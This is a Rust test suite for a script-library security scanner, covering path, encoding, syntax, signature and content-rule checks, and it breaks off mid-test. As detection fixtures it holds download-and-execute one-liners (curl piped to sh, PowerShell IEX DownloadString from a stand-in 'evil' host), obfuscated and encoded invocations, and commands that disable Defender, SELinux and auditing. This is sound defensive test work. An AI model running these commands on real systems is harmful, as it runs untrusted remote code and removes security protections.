//! Scanner tests: each check with a trigger and a near miss, through the default rules.

use super::*;
use crate::tree::FileTree;
use std::sync::Arc;

const RULES: &str = include_str!("../../../../policies/rules.toml");

fn policy(extra: &str) -> Policy {
    let mut files = vec![("policies/rules.toml".to_string(), RULES.to_string())];
    if !extra.is_empty() {
        files.push(("policies/zz-test.toml".to_string(), extra.to_string()));
    }
    match Policy::load(&files) {
        Ok(p) => p.policy,
        Err(errs) => panic!("policy does not load: {errs:#?}"),
    }
}

/// A file of the test script: a path in the script folder and its entry.
enum F {
    Text(&'static str, String),
    Bytes(&'static str, Vec<u8>),
    Exec(&'static str, Vec<u8>),
    Link(&'static str, &'static str),
}

fn t(path: &'static str, text: &str) -> F {
    F::Text(path, text.to_string())
}

/// A manifest for one entry: `file` run by `interpreter` on `platform`.
fn manifest(platform: &str, file: &str, interpreter: &str) -> F {
    F::Text(
        "script.toml",
        format!(
            "name = \"s\"\nplatforms = [\"{platform}\"]\n\n[entry.{platform}]\nfile = \"{file}\"\ninterpreter = \"{interpreter}\"\n"
        ),
    )
}

fn tree_of(files: Vec<F>) -> FileTree {
    let mut tree = FileTree::new();
    for f in files {
        match f {
            F::Text(p, s) => tree.insert_file(format!("s/{p}"), s),
            F::Bytes(p, b) => tree.insert_file(format!("s/{p}"), b),
            F::Exec(p, b) => tree.insert(
                format!("s/{p}"),
                TreeEntry::File {
                    bytes: Arc::from(b),
                    executable: true,
                },
            ),
            F::Link(p, target) => tree.insert(
                format!("s/{p}"),
                TreeEntry::Symlink {
                    target: target.into(),
                },
            ),
        }
    }
    tree
}

fn scan_with(extra_policy: &str, files: Vec<F>) -> ScanReport {
    // The default policy's scanner is compiled once for all tests.
    static DEFAULT: std::sync::OnceLock<(Policy, Scanner)> = std::sync::OnceLock::new();
    if extra_policy.is_empty() {
        let (policy, scanner) = DEFAULT.get_or_init(|| {
            let p = policy("");
            let s = Scanner::new(&p).expect("scanner compiles");
            (p, s)
        });
        let lib = Library::assemble("lib", &tree_of(files), policy);
        return scanner.scan_library(&lib);
    }
    let policy = policy(extra_policy);
    let lib = Library::assemble("lib", &tree_of(files), &policy);
    let scanner = Scanner::new(&policy).expect("scanner compiles");
    scanner.scan_library(&lib)
}

/// Scans one script folder and checks the set of rule ids found (info findings excluded).
fn check_with(extra_policy: &str, files: Vec<F>, expected: &[&str]) -> ScanReport {
    let report = scan_with(extra_policy, files);
    let mut got: Vec<&str> = report
        .findings
        .iter()
        .filter(|f| f.original_severity != Severity::Info)
        .map(|f| f.rule.as_str())
        .collect();
    got.dedup();
    got.sort();
    got.dedup();
    let mut want = expected.to_vec();
    want.sort();
    assert_eq!(got, want, "findings: {:#?}", report.findings);
    report
}

fn check(files: Vec<F>, expected: &[&str]) -> ScanReport {
    check_with("", files, expected)
}

fn ps(text: &str) -> Vec<F> {
    vec![
        manifest("windows", "run.ps1", "powershell"),
        t("run.ps1", text),
    ]
}

fn sh(text: &str) -> Vec<F> {
    vec![manifest("linux", "run.sh", "bash"), t("run.sh", text)]
}

fn finding<'a>(report: &'a ScanReport, rule: &str) -> &'a Finding {
    report
        .findings
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} in {:#?}", report.findings))
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut out = if big_endian {
        vec![0xFE, 0xFF]
    } else {
        vec![0xFF, 0xFE]
    };
    for u in text.encode_utf16() {
        out.extend(if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    out
}

// ---- a clean script -------------------------------------------------------------------

#[test]
fn clean_scripts_have_no_findings() {
    let r = check(
        sh(
            "#!/bin/sh\nps -ef\ncrontab -l\nsystemctl is-enabled sshd\nlaunchctl list\ngrep -i curl ~/.bash_history\ncp /etc/crontab \"$OUT/\"\ndd if=/dev/sda of=/tmp/disk.img bs=4M\n",
        ),
        &[],
    );
    assert_eq!((r.scripts, r.files), (1, 2));
    check(
        ps(
            "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\nGet-MpPreference | Select-Object DisableRealtimeMonitoring\nvssadmin list shadows\nGet-CimInstance Win32_ShadowCopy | Select-Object ID\n& \"$PSScriptRoot\\tool.exe\" -v\n. $PSScriptRoot\\lib.ps1\n",
        ),
        &[],
    );
}

// ---- limits ----------------------------------------------------------------------------

#[test]
fn file_size_limit_is_inclusive() {
    let limit = "[limits]\nmax_file_size = 128\n";
    let at = format!("#!/bin/sh\n#{}\n", "x".repeat(128 - 12));
    assert_eq!(at.len(), 128);
    check_with(limit, sh(&at), &[]);
    let over = format!("#!/bin/sh\n#{}\n", "x".repeat(128 - 11));
    let r = check_with(limit, sh(&over), &["limits.file-size"]);
    let f = finding(&r, "limits.file-size");
    assert_eq!(f.location.file, "lib/s/run.sh");
    assert!(f.message.contains("129 bytes"), "{}", f.message);
}

#[test]
fn library_limits_and_timeout() {
    let mut files = sh("#!/bin/sh\nid\n");
    files[0] = F::Text(
        "script.toml",
        "name = \"s\"\nplatforms = [\"linux\"]\ntimeout = \"3h\"\n[entry.linux]\nfile = \"run.sh\"\ninterpreter = \"bash\"\n".into(),
    );
    let r = check_with(
        "[limits]\nmax_scripts = 0\nmax_library_size = 10\nmax_timeout = \"1h\"\n",
        files,
        &[
            "limits.library-size",
            "limits.script-count",
            "limits.timeout",
        ],
    );
    let f = finding(&r, "limits.timeout");
    assert_eq!(f.location.to_string(), "lib/s/script.toml:3:1");
    assert!(finding(&r, "limits.script-count").script.is_none());
}

// ---- paths -----------------------------------------------------------------------------

#[test]
fn symlinks_refuse_the_script_but_others_are_scanned() {
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(F::Link("passwd", "/etc/passwd"));
    files.push(F::Text(
        "other/script.toml",
        "name = \"other\"\nplatforms = [\"linux\"]\n[entry.linux]\nfile = \"o.sh\"\ninterpreter = \"bash\"\n".into(),
    ));
    // `other` is inside `s`, so it is refused as nested; put it beside instead.
    files.pop();
    let mut tree = tree_of(files);
    tree.insert_file(
        "t/script.toml",
        "name = \"t\"\nplatforms = [\"linux\"]\n[entry.linux]\nfile = \"t.sh\"\ninterpreter = \"bash\"\n",
    );
    tree.insert_file("t/t.sh", "#!/bin/sh\ncurl -fsSL http://x | sh\n");
    let policy = policy("");
    let lib = Library::assemble("lib", &tree, &policy);
    let r = Scanner::new(&policy).unwrap().scan_library(&lib);
    let rules: Vec<(&str, &str)> = r
        .findings
        .iter()
        .map(|f| (f.script.as_deref().unwrap_or(""), f.rule.as_str()))
        .collect();
    assert_eq!(
        rules,
        [("s", "path.symlink"), ("t", "download-exec.shell")],
        "{:#?}",
        r.findings
    );
    assert!(r.findings[0].blocks());
}

#[test]
fn entry_paths_must_stay_inside_the_folder() {
    let r = check(
        vec![manifest("linux", "../../etc/passwd", "bash")],
        &["path.traversal"],
    );
    let f = finding(&r, "path.traversal");
    assert_eq!(f.location.file, "lib/s/script.toml");
    assert_eq!(f.location.line, Some(5));
    check(
        vec![manifest("linux", "/etc/passwd", "bash")],
        &["path.absolute"],
    );
    let r = check(
        vec![manifest("linux", "missing.sh", "bash")],
        &["manifest.entry-missing"],
    );
    assert_eq!(finding(&r, "manifest.entry-missing").location.line, Some(5));
    // Near miss: a dotted name that is not `..`.
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(t("..data", "x"));
    check(files, &[]);
}

#[test]
fn case_collisions() {
    let mut files = ps("Get-Date\n");
    files.push(t("Get-X.ps1", "Get-Date\n"));
    files.push(t("get-x.ps1", "Get-Date\n"));
    let r = check(files, &["path.case-collision"]);
    assert_eq!(
        finding(&r, "path.case-collision").location.file,
        "lib/s/get-x.ps1"
    );
    let mut files = ps("Get-Date\n");
    files.push(t("Get-X.ps1", "Get-Date\n"));
    files.push(t("get-y.ps1", "Get-Date\n"));
    check(files, &[]);
    // Folders collide too.
    let mut files = ps("Get-Date\n");
    files.push(t("Lib/a.ps1", "Get-Date\n"));
    files.push(t("lib/b.ps1", "Get-Date\n"));
    check(files, &["path.case-collision"]);
}

#[test]
fn git_entries_windows_names_and_file_types() {
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(t(".gitattributes", "* text\n"));
    check(files, &["path.git"]);
    let mut files = ps("Get-Date\n");
    files.push(t("aux.txt", "x"));
    files.push(t("notes?.txt", "x"));
    check(files, &["path.windows-invalid"]);
    let mut files = ps("Get-Date\n");
    files.push(t("auxiliary.txt", "x"));
    check(files, &[]);
    let allowed = "[validation]\nallowed_extensions = [\"sh\", \"txt\"]\n";
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(t("notes.txt", "x"));
    check_with(allowed, files, &[]);
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(t("payload.js", "x"));
    check_with(allowed, files, &["file.type"]);
}

// ---- encoding --------------------------------------------------------------------------

#[test]
fn utf16_powershell_is_decoded_and_scanned() {
    let text = "# triage\nGet-Date\nIEX (New-Object Net.WebClient).DownloadString('http://x')\n";
    for big_endian in [false, true] {
        let files = vec![
            manifest("windows", "run.ps1", "powershell"),
            F::Bytes("run.ps1", utf16(text, big_endian)),
        ];
        let r = check(files, &["download-exec.powershell"]);
        let f = finding(&r, "download-exec.powershell");
        assert_eq!(f.location.line, Some(3), "{f:?}");
        assert_eq!(f.location.column, Some(1), "{f:?}");
    }
}

#[test]
fn crlf_in_shell() {
    let r = check(sh("#!/bin/sh\r\nid\r\n"), &["encoding.crlf"]);
    let f = finding(&r, "encoding.crlf");
    assert_eq!(f.location.line, Some(1));
    assert!(f.message.contains("2 lines"), "{}", f.message);
    check(sh("#!/bin/sh\nid\n"), &[]);
    // CRLF in PowerShell is fine.
    check(ps("Get-Date\r\n"), &[]);
}

#[test]
fn non_ascii_powershell_needs_a_bom() {
    let text = "Write-Host 'a'\nWrite-Host 'from \u{2013} to'\n";
    let r = check(ps(text), &["encoding.ps1-non-ascii-no-bom"]);
    let f = finding(&r, "encoding.ps1-non-ascii-no-bom");
    assert_eq!((f.location.line, f.location.column), (Some(2), Some(18)));
    assert!(f.blocks());
    check(ps(&format!("\u{feff}{text}")), &[]);
    // UTF-16 has a BOM by construction.
    check(
        vec![
            manifest("windows", "run.ps1", "powershell"),
            F::Bytes("run.ps1", utf16(text, false)),
        ],
        &[],
    );
    // pwsh reads BOM-less files as UTF-8: a warning only.
    let r = check(
        vec![manifest("linux", "run.ps1", "pwsh"), t("run.ps1", text)],
        &["encoding.ps1-non-ascii-no-bom"],
    );
    assert!(!r.findings[0].blocks());
}

#[test]
fn nul_invalid_and_shebang() {
    check(sh("#!/bin/sh\nid\0\n"), &["encoding.nul"]);
    check(
        vec![
            manifest("linux", "run.sh", "bash"),
            F::Bytes("run.sh", b"#!/bin/sh\necho \xC3(\n".to_vec()),
        ],
        &["encoding.invalid"],
    );
    let r = check(sh("echo no shebang\n"), &["shell.no-shebang"]);
    assert_eq!(finding(&r, "shell.no-shebang").location.line, Some(1));
    check(sh("\u{feff}#!/bin/sh\nid\n"), &["shell.no-shebang"]);
    // A binary data file beside the script is not text.
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(F::Bytes("data.dat", b"\x00\x01\x02\xFF".to_vec()));
    check(files, &[]);
}

// ---- syntax ----------------------------------------------------------------------------

#[test]
fn powershell_syntax_errors() {
    let r = check(
        ps("Get-Date\nif ($true) {\n  Write-Host 'x'\n"),
        &["syntax.powershell"],
    );
    let f = finding(&r, "syntax.powershell");
    assert!(f.blocks());
    assert_eq!(f.location.to_string(), "lib/s/run.ps1:3:17", "{f:?}");
    assert!(f.message.contains("missing `}`"), "{}", f.message);
    check(ps("if ($true) {\n  Write-Host 'x'\n}\n"), &[]);
    // pwsh: warn; known grammar gaps: warn.
    let r = check(
        vec![
            manifest("windows", "run.ps1", "pwsh"),
            t("run.ps1", "if ($true) {\n"),
        ],
        &["syntax.powershell"],
    );
    assert!(!r.findings[0].blocks());
    let r = check(
        ps("switch ($x) { 'a' { 1 } 'b' { 2 } }\n"),
        &["syntax.powershell"],
    );
    assert!(!r.findings[0].blocks());
}

#[test]
fn a_script_that_is_only_a_param_block_is_a_known_gap() {
    // Valid PowerShell; the grammar wants a statement after param(...).
    let r = check(
        ps("param(\n  [string]$Name = 'x'\n)\n"),
        &["syntax.powershell"],
    );
    let f = finding(&r, "syntax.powershell");
    assert!(!f.blocks(), "{f:?}");
    assert!(
        f.message.contains("only a param(...) block"),
        "{}",
        f.message
    );
}

#[test]
fn unquoted_paths_after_a_variable_are_a_known_gap_and_real_errors_are_not() {
    // Valid PowerShell the grammar rejects: a bare-word path that starts with a variable.
    for (text, at) in [
        ("Get-Date\nGet-ChildItem $env:TEMP\\logs\n", "run.ps1:2:"),
        ("Get-Date\nCopy-Item C:\\a.txt $HOME\\b.txt\n", "run.ps1:2:"),
    ] {
        let r = check(ps(text), &["syntax.powershell"]);
        let f = finding(&r, "syntax.powershell");
        assert!(!f.blocks(), "{text}: {f:?}");
        assert!(
            f.location.to_string().contains(at),
            "{text}: {}",
            f.location
        );
        assert!(f.message.contains("unquoted path"), "{}", f.message);
    }
    // Near misses: quoted, it parses; a real error next to a variable still blocks.
    check(ps("Get-ChildItem \"$env:TEMP\\logs\"\n"), &[]);
    let r = check(
        ps("Get-Date\nif ($env:TEMP) {\n  Write-Output 1\n"),
        &["syntax.powershell"],
    );
    assert!(finding(&r, "syntax.powershell").blocks());
}

#[test]
fn shell_syntax_errors() {
    let r = check(
        sh("#!/bin/sh\nif true; then\n  echo x\n"),
        &["syntax.shell"],
    );
    assert!(finding(&r, "syntax.shell").message.contains("fi"));
    // zsh entries are not parsed (no zsh grammar; the bash one rejects valid zsh), so
    // neither a real zsh error nor valid zsh the bash grammar lacks is a finding.
    for text in [
        "#!/bin/zsh\nif true; then\n",
        "#!/bin/zsh\nif (( $+commands[lsof] )); then\n  print ${(j:,:)${(f)\"$(id)\"}}\nfi\nfor p in /proc/<->(N); do print $p; done\n",
    ] {
        check(
            vec![manifest("macos", "run.zsh", "zsh"), t("run.zsh", text)],
            &[],
        );
    }
}

#[test]
fn zsh_entries_keep_their_other_checks() {
    // Not parsed, but still checked for the shebang, CRLF and the regex rules.
    check(
        vec![
            manifest("macos", "run.zsh", "zsh"),
            t("run.zsh", "print -r -- $+commands[curl]\r\n"),
        ],
        &["encoding.crlf", "shell.no-shebang"],
    );
    check(
        vec![
            manifest("macos", "run.zsh", "zsh"),
            t(
                "run.zsh",
                "#!/bin/zsh\ncurl -fsSL http://203.0.113.9/x.sh | sh\n",
            ),
        ],
        &["download-exec.shell"],
    );
    // A file that bash runs too is parsed with the bash grammar, strictly.
    let r = check(
        vec![
            F::Text(
                "script.toml",
                "name = \"s\"\nplatforms = [\"linux\", \"macos\"]\n[entry.linux]\nfile = \"run.sh\"\ninterpreter = \"bash\"\n[entry.macos]\nfile = \"run.sh\"\ninterpreter = \"zsh\"\n".into(),
            ),
            t("run.sh", "#!/usr/bin/env bash\nif true; then\n"),
        ],
        &["syntax.shell"],
    );
    assert!(r.findings[0].blocks());
}

#[test]
fn unclosed_constructs_are_reported_where_they_open() {
    // The body returns to the opener's indentation before the end: the brace that is
    // never closed is the one to look at, not the end of the file.
    let r = check(
        ps(
            "# Lists processes\nfunction Get-Stuff {\n    Get-Process | ForEach-Object {\n        $_.Name\n    }\n\nGet-Stuff\n",
        ),
        &["syntax.powershell"],
    );
    let f = finding(&r, "syntax.powershell");
    assert_eq!(f.location.to_string(), "lib/s/run.ps1:2:20", "{f:?}");
    assert!(
        f.message
            .contains("missing `}` (the `{` here is never closed)"),
        "{}",
        f.message
    );
    for (text, at) in [
        ("#!/bin/sh\nif true; then\necho x\n", "lib/s/run.sh:2:1"),
        (
            "#!/bin/bash\nmain() {\n  if true; then\n    echo x\n}\nmain\n",
            "lib/s/run.sh:3:3",
        ),
        (
            "#!/bin/bash\nfor f in *; do\n  echo \"$f\"\necho end\n",
            "lib/s/run.sh:2:13",
        ),
        ("#!/bin/bash\nx=$(\nid\n", "lib/s/run.sh:2:3"),
    ] {
        let r = check(sh(text), &["syntax.shell"]);
        let f = finding(&r, "syntax.shell");
        assert_eq!(f.location.to_string(), at, "{text:?}: {f:?}");
        assert!(f.message.contains("here is never closed"), "{}", f.message);
    }
    // A body indented to the very end: the closer is missing at the end, after the last
    // token (not on the empty line after the final newline); the message names the opener.
    let r = check(
        sh("#!/bin/sh\nif true; then\n  echo x\n"),
        &["syntax.shell"],
    );
    let f = finding(&r, "syntax.shell");
    assert_eq!(f.location.to_string(), "lib/s/run.sh:3:9", "{f:?}");
    assert!(
        f.message
            .contains("missing `fi` (to close the `if` on line 2)"),
        "{}",
        f.message
    );
    // Errors that are not an unclosed construct stay where they are.
    let r = check(
        sh("#!/bin/sh\necho a\nif [ 1 ] then echo; fi\necho b\n"),
        &["syntax.shell"],
    );
    assert_eq!(finding(&r, "syntax.shell").location.line, Some(3));
}

/// A bash entry whose fourth line is `line`, between valid lines.
fn sh_line4(line: &str) -> Vec<F> {
    sh(&format!(
        "#!/usr/bin/env bash\nset -u\necho a\n{line}\necho b\n"
    ))
}

#[test]
fn reserved_words_bash_rejects_are_errors_where_they_are() {
    // tree-sitter-bash reads a reserved word it does not expect as a plain command word;
    // bash refuses it. Each row: the fourth line, where `bash -n` (5.2) stops, the word
    // it names, and a near miss that bash accepts.
    for (line, at, word, near_miss) in [
        ("fi", "4:1", "fi", "\"fi\""),
        ("done", "4:1", "done", "\\done"),
        ("esac", "4:1", "esac", "echo esac"),
        ("}", "4:1", "}", "echo }"),
        ("echo x; then", "4:9", "then", "echo x; echo then"),
        ("else", "4:1", "else", "'else'"),
        ("elif", "4:1", "elif", "elif=1"),
        ("do", "4:1", "do", "FOO=1 do"),
        ("in x", "4:1", "in", "x in"),
        ("]]", "4:1", "]]", "[[ -n x ]]"),
        ("echo x && fi", "4:11", "fi", "echo x && echo fi"),
        ("echo x | done", "4:10", "done", "echo x | grep done"),
        ("(fi)", "4:2", "fi", "(echo fi)"),
        ("echo \"$(esac)\"", "4:9", "esac", "echo \"`esac`\""),
        ("! fi", "4:3", "fi", "! true"),
        ("time -p fi", "4:9", "fi", "\\time fi"),
        ("fi > /dev/null", "4:1", "fi", "> /dev/null fi"),
        ("done() { :; }", "4:1", "done", "function done { :; }"),
        // The closer of an empty body.
        ("if true; then fi", "4:15", "fi", "if true; then :; fi"),
        (
            "if true; then :; else # c\nfi",
            "5:1",
            "fi",
            "if true; then :; else :; fi",
        ),
        (
            "for x in a; do done",
            "4:16",
            "done",
            "for x in a; do :; done",
        ),
        ("{ }", "4:3", "}", "{ :; }"),
        // `{echo` is one word to bash.
        ("{echo; }", "4:8", "}", "{ echo;}"),
        ("f(){echo; }", "4:4", "{echo", "f(){ echo;}"),
        (
            "if true; then :; fi fi",
            "4:21",
            "fi",
            "if true; then :; fi; echo fi",
        ),
        ("{ :; } }", "4:8", "}", "{ :; }; echo }"),
        // A dangling opener: bash stops at the reserved word after it.
        ("if then", "4:4", "then", "if true; then :; fi"),
        ("while do", "4:7", "do", "while false; do :; done"),
        ("until do :; done", "4:7", "do", "until true; do :; done"),
    ] {
        let r = check(sh_line4(line), &["syntax.shell"]);
        let f = finding(&r, "syntax.shell");
        assert_eq!(
            f.location.to_string(),
            format!("lib/s/run.sh:{at}"),
            "{line:?}: {f:?}"
        );
        assert!(
            f.message.contains(&format!("unexpected `{word}`")),
            "{line:?}: {}",
            f.message
        );
        assert!(f.blocks(), "{line:?}: {f:?}");
        check(sh_line4(near_miss), &[]);
    }
    // Valid bash whose reserved words the grammar reads as plain words too: a compound
    // command after `!`, `time` or `coproc`, a here-document, backquotes (which
    // `bash -n` does not parse), case patterns and words that are not commands.
    for valid in [
        "! if true; then :; fi",
        "time { echo; }",
        "time while false; do :; done",
        "coproc { cat; }",
        "cat <<EOF\nfi\n$(done)\nEOF",
        "echo `fi`",
        "case x in fi|done) :;; in) ;; esac",
        "echo done then else; x=esac",
        "if true\nthen :\nfi",
        "declare -A m=([in]=1 [fi]=2)",
    ] {
        check(sh_line4(valid), &[]);
    }
}

#[test]
fn an_error_in_a_recovered_region_is_reported_at_its_line() {
    // Error recovery wraps the valid statements before `if then` in one ERROR from the
    // top of the file; the finding is at the break, not at `set -u`.
    for (text, at) in [
        (
            "#!/usr/bin/env bash\nset -u\necho a\nif then\necho b\n",
            "4:4",
        ),
        (
            "#!/bin/bash\nmain() {\n  for f in *; do\n    if then\n      echo \"$f\"\n    fi\n  done\n}\nmain\n",
            "4:8",
        ),
        (
            "#!/bin/bash\nwhile read -r l; do\n  case \"$l\" in\n    a) while do :; done ;;\n  esac\ndone < /dev/null\n",
            "4:14",
        ),
        ("#!/bin/bash\nif true; then\n  if then\nfi\n", "3:6"),
    ] {
        let r = check(sh(text), &["syntax.shell"]);
        let f = finding(&r, "syntax.shell");
        assert_eq!(
            f.location.to_string(),
            format!("lib/s/run.sh:{at}"),
            "{text:?}: {f:?}"
        );
        assert!(f.message.contains("unexpected `"), "{}", f.message);
        assert!(!f.message.contains("set -u"), "{}", f.message);
    }
    // A stray closer inside a construct left open is found before the end of the file.
    let r = check(
        sh("#!/bin/bash\nif true; then\n  echo\n}\necho b\n"),
        &["syntax.shell"],
    );
    assert_eq!(
        finding(&r, "syntax.shell").location.to_string(),
        "lib/s/run.sh:4:1"
    );
    // A known grammar gap first stays a warning; errors after it are not judged.
    let r = check(sh("#!/bin/bash\nX=$((10#$Y))\nfi\n"), &["syntax.shell"]);
    let f = finding(&r, "syntax.shell");
    assert!(!f.blocks(), "{f:?}");
    assert_eq!(f.location.line, Some(2));
    // A stray before a gap is an error.
    let r = check(sh("#!/bin/bash\nfi\nX=$((10#$Y))\n"), &["syntax.shell"]);
    let f = finding(&r, "syntax.shell");
    assert!(f.blocks(), "{f:?}");
    assert_eq!(f.location.to_string(), "lib/s/run.sh:2:1");
}

#[test]
fn without_syntax_only_parsing_is_skipped() {
    let p = policy("");
    let files = || {
        let mut tree = FileTree::new();
        for (dir, file, interp, platform, text) in [
            // A parse error, a command-rule hit (``i`e`x``), and a regex hit.
            ("a", "run.ps1", "powershell", "windows", "if ($true) {\n"),
            (
                "b",
                "run.ps1",
                "powershell",
                "windows",
                "i`e`x 'Get-Date'\n",
            ),
            (
                "c",
                "run.sh",
                "bash",
                "linux",
                "#!/bin/sh\nsetenforce 0\r\n",
            ),
        ] {
            tree.insert_file(
                format!("{dir}/script.toml"),
                format!("name = \"{dir}\"\nplatforms = [\"{platform}\"]\n[entry.{platform}]\nfile = \"{file}\"\ninterpreter = \"{interp}\"\n"),
            );
            tree.insert_file(format!("{dir}/{file}"), text);
        }
        tree
    };
    let lib = Library::assemble("lib", &files(), &p);
    let rules = |r: &ScanReport| -> Vec<String> {
        r.findings
            .iter()
            .map(|f| format!("{} {}", f.script.as_deref().unwrap_or(""), f.rule))
            .collect()
    };
    let full = Scanner::new(&p).unwrap();
    assert!(full.checks_syntax());
    assert_eq!(
        rules(&full.scan_library(&lib)),
        [
            "a syntax.powershell",
            "b obfuscation.dynamic-invoke",
            "c defense.disable-selinux",
            "c encoding.crlf"
        ]
    );
    let quick = Scanner::new(&p).unwrap().with_syntax(false);
    assert!(!quick.checks_syntax());
    assert_eq!(
        rules(&quick.scan_library(&lib)),
        ["c defense.disable-selinux", "c encoding.crlf"]
    );
}

// ---- signatures ------------------------------------------------------------------------

fn keypair() -> minisign::KeyPair {
    minisign::KeyPair::generate_unencrypted_keypair().expect("keypair")
}

fn sign(kp: &minisign::KeyPair, bytes: &[u8]) -> Vec<u8> {
    minisign::sign(
        Some(&kp.pk),
        &kp.sk,
        std::io::Cursor::new(bytes),
        Some("tool v1"),
        Some("test"),
    )
    .expect("sign")
    .to_string()
    .into_bytes()
}

fn pin(kp: &minisign::KeyPair) -> String {
    format!(
        "[[publisher_key]]\nid = \"vendor\"\nkey = \"{}\"\n",
        kp.pk.to_base64()
    )
}

fn elf() -> Vec<u8> {
    let mut b = b"\x7fELF\x02\x01\x01".to_vec();
    b.extend([0u8; 64]);
    b
}

fn exe_script(extra: Vec<F>) -> Vec<F> {
    let mut files = vec![
        manifest("linux", "tool", "executable"),
        F::Exec("tool", elf()),
    ];
    files.extend(extra);
    files
}

#[test]
fn executables_need_a_pinned_signature() {
    let vendor = keypair();
    let stranger = keypair();
    let good = sign(&vendor, &elf());
    check_with(&pin(&vendor), exe_script(vec![]), &["signature.missing"]);
    check_with(
        &pin(&vendor),
        exe_script(vec![F::Bytes("tool.minisig", sign(&stranger, &elf()))]),
        &["signature.untrusted"],
    );
    let mut corrupted = elf();
    corrupted[10] ^= 1;
    let r = check_with(
        &pin(&vendor),
        vec![
            manifest("linux", "tool", "executable"),
            F::Exec("tool", corrupted),
            F::Bytes("tool.minisig", good.clone()),
        ],
        &["signature.invalid"],
    );
    assert!(finding(&r, "signature.invalid").message.contains("vendor"));
    check_with(
        &pin(&vendor),
        exe_script(vec![F::Bytes("tool.minisig", good.clone())]),
        &[],
    );
    // A DLL that is not an entry still needs its signature.
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(F::Bytes("helper.dll", b"not really".to_vec()));
    check_with(&pin(&vendor), files, &["signature.missing"]);
    // A malformed signature file.
    check_with(
        &pin(&vendor),
        exe_script(vec![F::Text("tool.minisig", "garbage".into())]),
        &["signature.invalid"],
    );
}

// ---- content rules ---------------------------------------------------------------------

#[test]
fn powershell_download_and_execute() {
    check(
        ps("IEX (New-Object Net.WebClient).DownloadString('http://evil/x')\n"),
        &["download-exec.powershell"],
    );
    check(
        ps("i`e`x (New-Object Net.WebClient).DownloadString('http://evil/x')\n"),
        &["download-exec.powershell", "obfuscation.dynamic-invoke"],
    );
    check(
        ps(
            "& ('Invoke-' + 'Expression') ((New-Object Net.WebClient).DownloadString('http://evil/x'))\n",
        ),
        &["download-exec.powershell", "obfuscation.dynamic-invoke"],
    );
    // Split over lines (regex misses it, the tree does not).
    check(
        ps("Invoke-Expression `\n  ((New-Object Net.WebClient).DownloadString('http://evil/x'))\n"),
        &["download-exec.powershell"],
    );
    check(
        ps("iwr http://x/a.ps1 -UseBasicParsing | iex\n"),
        &["download-exec.powershell"],
    );
    // An alias the script defines.
    check(
        ps(
            "Set-Alias go Invoke-Expression\ngo ((New-Object Net.WebClient).DownloadString('http://evil/x'))\n",
        ),
        &["download-exec.powershell"],
    );
    // Near misses: downloading data, running local code.
    check(
        ps("Invoke-WebRequest http://x/data.json -OutFile data.json\n"),
        &[],
    );
    check(ps("Invoke-Expression \"Get-Date\"\n"), &[]);
}

#[test]
fn shell_download_and_execute() {
    check(
        sh("#!/bin/sh\ncurl -fsSL http://x | sh\n"),
        &["download-exec.shell"],
    );
    check(
        sh("#!/bin/bash\nbash <(curl -s http://x)\n"),
        &["download-exec.shell"],
    );
    check(
        sh("#!/bin/sh\nsh -c \"$(wget -qO- http://x)\"\n"),
        &["download-exec.shell"],
    );
    check(
        sh("#!/bin/sh\ncurl -fsSL \\\n  http://x | sudo bash -s\n"),
        &["download-exec.shell"],
    );
    check(sh("#!/bin/sh\ncurl -fsSL http://x | shasum -a 256\n"), &[]);
    check(
        sh("#!/bin/sh\ncurl -s http://localhost/api | python3 -m json.tool\n"),
        &[],
    );
    check(sh("#!/bin/sh\n./install.sh --version\n"), &[]);
}

#[test]
fn obfuscation() {
    check(
        ps("& ('{0}{1}' -f 'ie','x') 'Get-Date'\n"),
        &["obfuscation.dynamic-invoke"],
    );
    check(
        ps("$c = 'Inv'+'oke-Expression'\n& $c 'Get-Date'\n"),
        &["obfuscation.dynamic-invoke"],
    );
    check(
        ps(
            "& $exe -v\n& (Join-Path $PSScriptRoot 'x.exe')\n& ($PSScriptRoot + '\\bin\\tool.exe') -v\n& ('C:\\t\\' + 'tool.exe')\n",
        ),
        &[],
    );
    // Helper files (not parsed) are covered by the regex.
    let mut files = ps("Get-Date\n");
    files.push(t(
        "helper.psm1",
        "function f { & ('Invoke-' + 'Expression') $args }\n",
    ));
    let r = check(files, &["obfuscation.dynamic-invoke"]);
    assert_eq!(r.findings[0].location.file, "lib/s/helper.psm1");
    check(
        ps("&('Microsoft.PowerShell.Utility\\' + 'Invoke-Expression') 'Get-Date'\n"),
        &["obfuscation.dynamic-invoke"],
    );
    check(
        sh("#!/bin/sh\nc\\url http://x\n"),
        &["obfuscation.dynamic-invoke"],
    );
    check(sh("#!/bin/sh\n\\rm -f /tmp/x\n"), &[]);
}

#[test]
fn encoded_commands() {
    check(
        ps("powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A\n"),
        &["encoded-command"],
    );
    check(
        sh("#!/bin/sh\necho Y3VybCB4fHNo | base64 -d | sh\n"),
        &["encoded-command"],
    );
    check(
        ps("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p)))\n"),
        &["encoded-command"],
    );
    check(
        ps("powershell.exe -ExecutionPolicy Bypass -File x.ps1\n"),
        &[],
    );
    check(sh("#!/bin/sh\nbase64 -d in.b64 > out.bin\n"), &[]);
}

#[test]
fn defense_evasion() {
    check(
        ps("Set-MpPreference -DisableRealtimeMonitoring $true\n"),
        &["defense.disable-defender"],
    );
    check(
        ps("Add-MpPreference -ExclusionPath C:\\x\n"),
        &["defense.disable-defender"],
    );
    check(ps("Get-MpPreference\n"), &[]);
    check(
        sh("#!/bin/sh\nsetenforce 0\n"),
        &["defense.disable-selinux"],
    );
    check(
        sh("#!/bin/sh\nsed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config\n"),
        &["defense.disable-selinux"],
    );
    check(
        sh("#!/bin/sh\ngetenforce\ngrep SELINUX= /etc/selinux/config\n"),
        &[],
    );
    check(sh("#!/bin/sh\nauditctl -e 0\n"), &["defense.stop-audit"]);
    check(
